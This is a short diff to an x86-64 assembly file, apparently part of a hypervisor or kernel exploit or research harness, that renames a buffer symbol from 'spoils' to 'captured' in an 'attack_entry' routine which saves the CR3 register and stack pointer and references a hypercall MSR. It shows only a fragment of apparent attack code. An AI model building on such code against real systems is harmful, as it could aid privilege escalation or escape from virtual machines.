@@ -14,7 +14,7 @@
 	.globl	attack_entry
 	.type	attack_entry, @function
 attack_entry:
-	leaq	attack_entry_spoils(%rip), %rdi
+	leaq	attack_entry_captured(%rip), %rdi
 	movq	%cr3, %rax
 	movq	%rax, (%rdi)
 	movq	%rsp, 8(%rdi)
@@ -39,8 +39,8 @@ attack_entry:
 
 	.data
 	.balign	8
-	.globl	attack_entry_spoils, attack_entry_hypercall_msr, attack_entry_return
-attack_entry_spoils:
+	.globl	attack_entry_captured, attack_entry_hypercall_msr, attack_entry_return
+attack_entry_captured:
 	.quad	0, 0, 0
 attack_entry_hypercall_msr:
 	.quad	0
